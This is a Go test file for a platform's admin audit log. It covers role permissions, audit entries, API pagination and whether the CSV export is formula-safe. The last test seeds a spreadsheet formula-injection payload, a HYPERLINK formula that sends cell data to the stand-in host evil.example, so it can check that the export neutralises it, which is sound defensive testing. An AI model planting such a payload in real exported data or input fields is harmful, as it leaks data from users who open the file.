package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"eplatform/app/audit"
	"eplatform/app/desk"
)

// The audit page, its CSV and GET /api/admin/audit/ as six roles: admins only.
func TestAuditPermissionMatrix(t *testing.T) {
	t.Parallel()
	app := startDesk(t)
	roles := []struct {
		name, username, role string
		page, api            int
	}{
		{"student", "stud", "student", http.StatusForbidden, http.StatusForbidden},
		{"other student", "stud2", "student", http.StatusForbidden, http.StatusForbidden},
		{"instructor", "prof", "instructor", http.StatusForbidden, http.StatusForbidden},
		{"other instructor", "prof2", "instructor", http.StatusForbidden, http.StatusForbidden},
		{"admin", "root", "admin", http.StatusOK, http.StatusOK},
	}
	for _, r := range roles {
		c := app.User(r.username, r.role)
		for _, path := range []string{"/admin/audit/", "/admin/audit/audit.csv", "/admin/audit/?action=user.role"} {
			if got := c.Get(path).StatusCode; got != r.page {
				t.Errorf("%s GET %s = %d, want %d", r.name, path, got, r.page)
			}
		}
		access, _ := app.Token(r.username)
		if got := app.Client().JSON("GET", "/api/admin/audit/", nil, access).StatusCode; got != r.api {
			t.Errorf("%s GET /api/admin/audit/ = %d, want %d", r.name, got, r.api)
		}
		// The session cookie works for the API too.
		if got := c.Get("/api/admin/audit/").StatusCode; got != r.api {
			t.Errorf("%s GET /api/admin/audit/ with a session = %d, want %d", r.name, got, r.api)
		}
	}
	if r := app.Client().Get("/admin/audit/"); r.StatusCode != http.StatusFound || !strings.HasPrefix(r.Header.Get("Location"), "/login/") {
		t.Errorf("anonymous page: %d %s", r.StatusCode, r.Header.Get("Location"))
	}
	if r := app.Client().Get("/api/admin/audit/"); r.StatusCode != http.StatusUnauthorized {
		t.Errorf("anonymous API: %d", r.StatusCode)
	}
}

// An admin's action through the site is recorded with the request's id and the
// client's address, and shows on the page, in the API and in the CSV.
func TestAuditThroughTheSite(t *testing.T) {
	t.Parallel()
	app := startDesk(t)
	admin := app.User("root", "admin")
	app.Account("stud", "student")
	id := strconv.FormatInt(userID(t, app, "stud"), 10)
	h := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "X-Request-Id": {"req-audit-1"}}
	if r := admin.Do("POST", "/admin/users/"+id+"/role/", strings.NewReader("role=instructor"), h); r.StatusCode != http.StatusSeeOther {
		t.Fatalf("role change: %d", r.StatusCode)
	}
	e := app.AuditEntries(audit.UserRole)
	if len(e) != 1 || e[0].RequestID != "req-audit-1" || e[0].Client != "127.0.0.1" || e[0].ActorName != "root" {
		t.Fatalf("entry: %+v", e)
	}
	page := admin.Get("/admin/audit/?actor=root&action=user.role")
	if page.StatusCode != 200 || !strings.Contains(page.Body, `data-action="user.role"`) || !strings.Contains(page.Body, "req-audit-1") {
		t.Errorf("page does not show the entry: %d", page.StatusCode)
	}
	if r := admin.Get("/admin/audit/?actor=nobody"); strings.Contains(r.Body, `data-action="user.role"`) {
		t.Error("the actor filter does not filter")
	}
	if r := admin.Get("/admin/audit/?action=user.nope&since=yesterday"); r.StatusCode != http.StatusBadRequest ||
		!strings.Contains(r.Body, "Select a valid choice") || !strings.Contains(r.Body, "YYYY-MM-DD") {
		t.Errorf("bad filters: %d", r.StatusCode)
	}

	var out struct {
		Next    *string
		Results []struct {
			Action, Actor string
			RequestID     string `json:"request_id"`
			Before, After map[string]any
			ActorID       *int64 `json:"actor_id"`
		}
	}
	access, _ := app.Token("root")
	r := app.Client().JSON("GET", "/api/admin/audit/?action=user.role", nil, access)
	r.JSON(t, &out)
	if r.StatusCode != 200 || len(out.Results) != 1 || out.Next != nil || out.Results[0].After["user_type"] != "instructor" ||
		out.Results[0].Before["user_type"] != "student" {
		t.Fatalf("API: %d %s", r.StatusCode, r.Body)
	}
	if r := app.Client().JSON("GET", "/api/admin/audit/?target_kind=planet", nil, access); r.StatusCode != 400 || !strings.Contains(r.Body, "target_kind") {
		t.Errorf("API bad kind: %d %s", r.StatusCode, r.Body)
	}
	// Keyset: two entries, pages of one.
	if r := admin.PostForm("/admin/users/"+id+"/deactivate/", nil); r.StatusCode != http.StatusSeeOther {
		t.Fatal(r.StatusCode)
	}
	r = app.Client().JSON("GET", "/api/admin/audit/?target_kind=user&actor=root&page_size=1", nil, access)
	r.JSON(t, &out)
	if len(out.Results) != 1 || out.Next == nil {
		t.Fatalf("first page: %s", r.Body)
	}
	u, _ := url.Parse(*out.Next)
	r = app.Client().JSON("GET", u.RequestURI(), nil, access)
	out.Next = nil
	r.JSON(t, &out)
	if len(out.Results) != 1 || out.Results[0].Action != audit.UserRole || out.Next != nil {
		t.Fatalf("second page: %s", r.Body)
	}
}

// The CSV export neutralises cells a spreadsheet would run as formulas.
func TestAuditCSVIsFormulaSafe(t *testing.T) {
	t.Parallel()
	app := startDesk(t)
	admin := app.User("root", "admin")
	u, err := app.State.DB.UserByUsername(context.Background(), "root")
	if err != nil {
		t.Fatal(err)
	}
	evil := "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")"
	if _, err := app.State.Desk.SaveFAQ(context.Background(), u, 0, desk.FAQInput{Question: evil, Answer: "@SUM(1+1)", Active: true}); err != nil {
		t.Fatal(err)
	}
	r := admin.Get("/admin/audit/audit.csv?action=faq.create")
	if r.StatusCode != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("csv: %d %v", r.StatusCode, r.Header)
	}
	recs, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || recs[0][0] != "id" {
		t.Fatalf("csv rows: %v", recs)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell starts like a formula: %q", cell)
			}
		}
	}
	if label := recs[1][7]; label != "'"+evil {
		t.Errorf("label cell %q", label)
	}
}
